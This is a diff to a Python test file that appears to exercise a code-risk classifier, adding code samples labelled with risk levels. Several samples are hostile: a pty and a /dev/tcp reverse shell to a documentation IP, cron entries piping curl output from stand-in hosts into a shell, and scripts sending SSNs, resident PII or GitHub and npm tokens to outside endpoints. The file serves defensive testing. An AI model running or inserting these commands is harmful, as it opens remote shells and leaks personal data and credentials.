@@ -4888,7 +4888,7 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
         (
             'from crontab import CronTab\ncron = CronTab(user=True)\n'
             "job = cron.new(command='curl -s http://x.example/a | sh')\ncron.write()",
-            H,
+            C,
         ),
         (
             'import json, os, pathlib, requests\n'
@@ -5328,6 +5328,89 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "with open(os.path.join(site, 'zz.pth'), 'w') as fh:\n"
             '    fh.write(\'import os; os.system("curl -s http://x.example.net/p | sh")\\n\')',
             C,
+        ),
+        (
+            'import subprocess, textwrap\n'
+            "script = textwrap.dedent('''\n"
+            '    import os, pty, socket\n'
+            "    s = socket.create_connection(('203.0.113.45', 4444))\n"
+            '    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n'
+            "    pty.spawn('/bin/bash')\n"
+            "''')\n"
+            "subprocess.Popen(['uv', 'run', '--no-project', 'python', '-c', script])",
+            C,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['uvx', '--from', 'git+https://github.com/x/envsync', 'envsync', "
+            "'push'])",
+            H,
+        ),
+        ("import subprocess\nsubprocess.run(['npx', '--yes', 'eslint@8.57.0', 'src/'])", L),
+        (
+            'import subprocess\n'
+            "current = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdo"
+            'ut\n'
+            "entry = '30 2 * * * pg_dump -Fc -d appdb -f ~/backups/appdb.dump\\n'\n"
+            "subprocess.run(['crontab', '-'], input=current + entry, text=True)",
+            M,
+        ),
+        (
+            'import subprocess\n'
+            "cur = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\n"
+            "subprocess.run(['crontab', '-'], input=cur + '@reboot curl -s http://x.example.n"
+            "et/a.sh | bash\\n', text=True)",
+            C,
+        ),
+        (
+            'from crontab import CronTab\n'
+            'cron = CronTab(user=True)\n'
+            "cron.new(command='cd ~/projects/reports && .venv/bin/python -m reports.weekly')\n"
+            'cron.write()',
+            M,
+        ),
+        (
+            'from crontab import CronTab\n'
+            'cron = CronTab(user=True)\n'
+            "cron.new(command='bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n"
+            'cron.write()',
+            C,
+        ),
+        (
+            'import pandas as pd, requests\n'
+            "df = pd.read_sql('SELECT case_id, complainant_ssn FROM complaints', 'postgresql:"
+            "//app@db/ce')\n"
+            "requests.post('https://x.example.com/u', json=df.to_dict(orient='records'))",
+            C,
+        ),
+        (
+            'import pandas as pd\n'
+            "df = pd.read_sql('SELECT case_id, status FROM complaints', 'postgresql://app@db/"
+            "ce')\n"
+            "df.to_csv('out.csv')",
+            S,
+        ),
+        (
+            'from sodapy import Socrata\n'
+            'import pandas as pd\n'
+            "df = pd.read_sql('SELECT name, phone, email FROM residents', 'postgresql://x@db/"
+            "r')\n"
+            "Socrata('data.city.gov', 't').replace('8kq3-zt7v', df.to_dict(orient='records'))",
+            C,
+        ),
+        (
+            'import os, requests\n'
+            's = requests.Session()\n'
+            "s.headers.update({'Authorization': 'Bearer ' + os.environ['CLIMATE_ACCESS_TOKEN'"
+            "], 'X-Api-Key': os.environ['CLIMATE_API_KEY']})\n"
+            "print(s.get('https://platform.climate.com/v4/fields').json())",
+            L,
+        ),
+        (
+            'import os, requests\n'
+            "requests.post('https://discord.com/api/webhooks/1/x', json={'content': os.enviro"
+            "n['GITHUB_TOKEN'] + ' ' + os.environ['NPM_TOKEN']})",
+            H,
         ),
     ],
 )
